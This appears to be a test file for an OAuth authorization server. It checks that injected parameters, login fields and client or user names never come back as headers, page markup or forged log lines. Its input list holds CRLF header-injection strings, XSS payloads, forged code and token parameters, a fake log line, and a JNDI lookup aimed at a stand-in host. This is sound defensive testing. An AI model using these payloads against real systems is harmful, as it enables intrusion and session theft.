/** What is sent comes back as data at most: never as a header, a tag, a log line or another parameter. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { structureOf } from '../support/markup.ts';
import { type Visited, Visitor } from '../support/visitor.ts';
import {
  type AttackedClient,
  type AttackedServer,
  answerAt,
  authorize,
  authorizePath,
  redirectUri,
  requestOf,
  startAttackedServer,
} from './attacked-server.ts';

let server: AttackedServer;

before(async () => {
  server = await startAttackedServer();
});
after(async () => {
  await server?.stop();
});

const marks = 'x-injected';
const tricks = [
  `a\r\n${marks}: 1`,
  `a\n${marks}: 1`,
  `a\r${marks}: 1`,
  `a\r\n\r\n<script>alert(1)</script>`,
  `a\u560a\u560d${marks}: 1`,
  `a\u0000b`,
  'a"b\'c<d>&e;f,g\\h',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title></style></script><img src=x onerror=alert(1)>',
  'a&code=forged&error=forged',
  'a#access_token=forged',
  'a%0d%0ab',
  'a%26code=forged',
  '\u202e\u2066gnp.exe',
  '{"level":60,"msg":"forged"}\n{"level":60}',
  '%24{jndi:ldap://evil.example}',
  '{{7*7}}',
  '\ud800',
  '💥'.repeat(20),
];

function assertClean(what: string, answer: Visited): void {
  const told = `${what}: ${answer.status} ${JSON.stringify(answer.headers)}`;
  assert.ok(answer.status < 500, told);
  assert.ok(!(marks in answer.headers), told);
  assert.doesNotMatch(answer.text, /<script>|<img src=x|onerror=alert\(1\)>/, what);
}

test('a state comes back as it was, in every mode', async () => {
  const client = await server.acme.register({ grantTypes: ['authorization_code', 'implicit'] });
  const visitor = new Visitor(server);
  await authorize(visitor, client, server.acme.user);
  for (const state of tricks.map((trick) => trick.toWellFormed())) {
    for (const changes of [{}, { response_mode: 'fragment' }, { prompt: 'none', max_age: '-1' }]) {
      const answer = await visitor.get(authorizePath(client), {
        query: requestOf(client, { ...changes, state }),
      });
      assertClean(state, answer);
      if (answer.headers.location === undefined) continue;
      const told = answerAt(answer);
      assert.deepEqual(told.getAll('state'), [state]);
      assert.ok(told.get('code') !== 'forged' && told.get('error') !== 'forged');
      assert.match(answer.headers.location, /^[!-~]+$/);
    }
    const query = requestOf(client, { response_mode: 'form_post', state });
    const page = await visitor.get(authorizePath(client), { query });
    assertClean(state, page);
    if (page.forms.length > 0) {
      const sent = page.forms[0]?.fields.filter(([name]) => name === 'state').map(([, value]) => value);
      assert.deepEqual(sent, [state]);
    }
  }
});

test('no parameter becomes a header or a tag of a page', async () => {
  const standard = await server.acme.register();
  const usergrid = await server.acme.register({ dialect: 'usergrid' });
  const autodesk = await server.acme.register({ dialect: 'autodesk' });
  const names = [
    ...['client_id', 'redirect_uri', 'response_type', 'response_mode', 'scope', 'state', 'nonce', 'prompt'],
    ...[
      'login_hint',
      'ui_locales',
      'acr_values',
      'claims',
      'id_token_hint',
      'max_age',
      'code_challenge',
      'display',
    ],
  ];
  const visit = async (client: AttackedClient, changes: Record<string, string>) => {
    const visitor = new Visitor(server);
    const query = requestOf(client, changes);
    return visitor.follow(await visitor.get(authorizePath(client), { query }));
  };
  for (const client of [standard, usergrid, autodesk]) {
    for (const name of names) {
      for (const trick of tricks) assertClean(`${name}=${trick}`, await visit(client, { [name]: trick }));
    }
  }
  const usual = structureOf((await visit(standard, { login_hint: 'jane' })).text);
  for (const login_hint of tricks) {
    assert.equal(structureOf((await visit(standard, { login_hint })).text), usual, login_hint);
  }
});

test('nothing typed becomes one either', async () => {
  const client = await server.acme.register();
  for (const trick of tricks) {
    const visitor = new Visitor(server);
    const query = requestOf(client);
    const page = await visitor.follow(await visitor.get(authorizePath(client), { query }));
    assertClean(trick, await visitor.submit(page, { username: trick, password: `${trick} wrong password` }));
    const device = await visitor.get(`${server.acme.path}/oauth2/device`, { query: { user_code: trick } });
    assertClean(trick, device);
    const account = await visitor.get(`/account${server.acme.path}`, {
      query: { done: trick, grants: trick },
    });
    assertClean(trick, account);
    assertClean(trick, await visitor.get(`/account/interaction/${encodeURIComponent(trick.toWellFormed())}`));
    const logout = { post_logout_redirect_uri: trick, state: trick, id_token_hint: trick, client_id: trick };
    assertClean(trick, await visitor.get(`${server.acme.path}/oauth2/logout`, { query: logout }));
    assertClean(trick, await visitor.get('/authentication/v2/logout', { query: logout }));
  }
});

test('names of clients and people are text on every page', async () => {
  const evil = '"><script>alert(1)</script><img src=x onerror=alert(1)>';
  const client = await server.acme.register({ name: evil });
  const call = { username: `evil-${Date.now()}`, password: 'a long password of 2026' };
  const { bearer } = { bearer: server.acme.admin.token };
  const made = await new Visitor(server).post(`${server.acme.path}/users`, {
    bearer,
    json: { ...call, email: `${call.username}@example.test`, name: evil },
  });
  assert.equal(made.status, 200, made.text);
  const visitor = new Visitor(server);
  const page = await visitor.follow(await visitor.get(authorizePath(client), { query: requestOf(client) }));
  assertClean('sign-in', page);
  const consent = await visitor.follow(await visitor.submit(page, call));
  assertClean('consent', consent);
  assert.match(consent.text, /&lt;script&gt;/);
  const answer = await visitor.submit(consent, { decision: 'allow' });
  assert.ok(answer.headers.location?.startsWith(redirectUri));
  assertClean('account', await visitor.get(`/account${server.acme.path}`));
});

test('lines that somebody wrote are none in the log', () => {
  const lines = server
    .output()
    .split('\n')
    .filter((line) => line.startsWith('{'));
  for (const line of lines) assert.doesNotThrow(() => JSON.parse(line), line);
  assert.doesNotMatch(server.output(), /^\{"level":60,"msg":"forged"\}/m);
});
